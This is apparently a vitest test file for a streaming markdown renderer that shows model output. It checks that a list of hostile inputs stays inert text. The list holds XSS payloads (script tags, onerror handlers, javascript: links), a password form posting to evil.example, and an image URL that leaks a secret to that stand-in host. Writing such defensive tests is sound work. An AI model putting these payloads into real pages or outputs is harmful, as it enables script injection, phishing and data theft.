// @vitest-environment happy-dom
/** What a model writes, rendered (promises C1–C4, C6, C9): streamed piece by piece, nothing may come alive. */
import { expect, test } from "vitest";
import { MarkdownStream } from "../src/text/stream";

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<div style=position:fixed;inset:0>Allow</div>",
  "<form action=https://evil.example><input name=p type=password><button>Go</button></form>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>",
  "[click](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [y](java&#x09;script:alert(1))",
  "[a](data:text/html;base64,PHNjcmlwdD4=) [b](vbscript:x) [c](file:///etc/passwd)",
  "<javascript:alert(1)> <data:text/html,x>",
  "![leak](https://evil.example/?q=SECRET) ![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "[![nested](https://evil.example/a.png)](javascript:alert(1))",
  "[ref]: javascript:alert(1)\n\n[ref] ![ref]",
  "```<img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```",
  "```html onmouseover=alert(1)\n<b>\n```",
  "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| <img src=x onerror=alert(1)> | ok |",
  '[title](https://ok.example "\\" onmouseover=alert(1) x=")',
  'https://ok.example/"onmouseover=alert(1)',
  "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
  'event: message\ndata: {"s":1}\n\n\u2028\u2029\u0000',
];

const ALLOWED = new Set(
  "a blockquote br button code del div em h3 h4 h5 h6 hr li ol p pre span strong table tbody td th thead tr ul".split(
    " ",
  ),
);
const ATTRIBUTES = new Set(
  "class dir href title rel role type tabindex start aria-label aria-pressed data-link data-copy data-language data-save data-source data-tex data-wrap".split(
    " ",
  ),
);

function stream(text: string, size: number): HTMLElement {
  const root = document.createElement("div");
  const shown = new MarkdownStream(root, () => {});
  for (let end = size; end < text.length + size; end += size) {
    shown.update(text.slice(0, end));
    check(root, text);
  }
  shown.end();
  check(root, text);
  return root;
}

function check(root: HTMLElement, text: string): void {
  for (const element of root.querySelectorAll("*")) {
    expect(ALLOWED, text).toContain(element.tagName.toLowerCase());
    for (const name of element.getAttributeNames()) expect(ATTRIBUTES, text).toContain(name);
    if (element.hasAttribute("href")) expect(element.getAttribute("href")).toMatch(/^(https?|mailto):/);
  }
}

test.each(HOSTILE)("%j stays text, in pieces of 1, 4 and whole", (text) => {
  for (const size of [1, 4, text.length]) stream(text, size);
  stream(`before\n\n${text}\n\n> - ${text}\n\nafter`, 5);
});

test("an image is a link chip that names its host and loads nothing", () => {
  const root = stream("![chart](https://pics.example/c.png?q=1)", 3);
  expect(root.querySelector("img")).toBeNull();
  expect(root.querySelector("a")?.textContent).toBe("chart (pics.example)");
});

test.each([
  ["emphasis marks", "*a **b ".repeat(5_000)],
  ["brackets", "[".repeat(20_000)],
  ["quotes in quotes", `${">".repeat(5_000)} x`],
  ["nested lists", Array.from({ length: 1_000 }, (_, at) => `${" ".repeat(at * 2)}- x`).join("\n")],
  ["back-ticks", "`a``b```c".repeat(3_000)],
  ["one long line", "word ".repeat(60_000)],
  [
    "a table of many cells",
    `|${"a|".repeat(50)}\n|${"-|".repeat(50)}\n${`|${"x|".repeat(50)}\n`.repeat(200)}`,
  ],
])("pathological text of %s is rendered in reasonable time", (_name, text) => {
  const began = performance.now();
  const root = document.createElement("div");
  const shown = new MarkdownStream(root);
  shown.update(text);
  shown.end();
  expect(performance.now() - began).toBeLessThan(4_000);
});
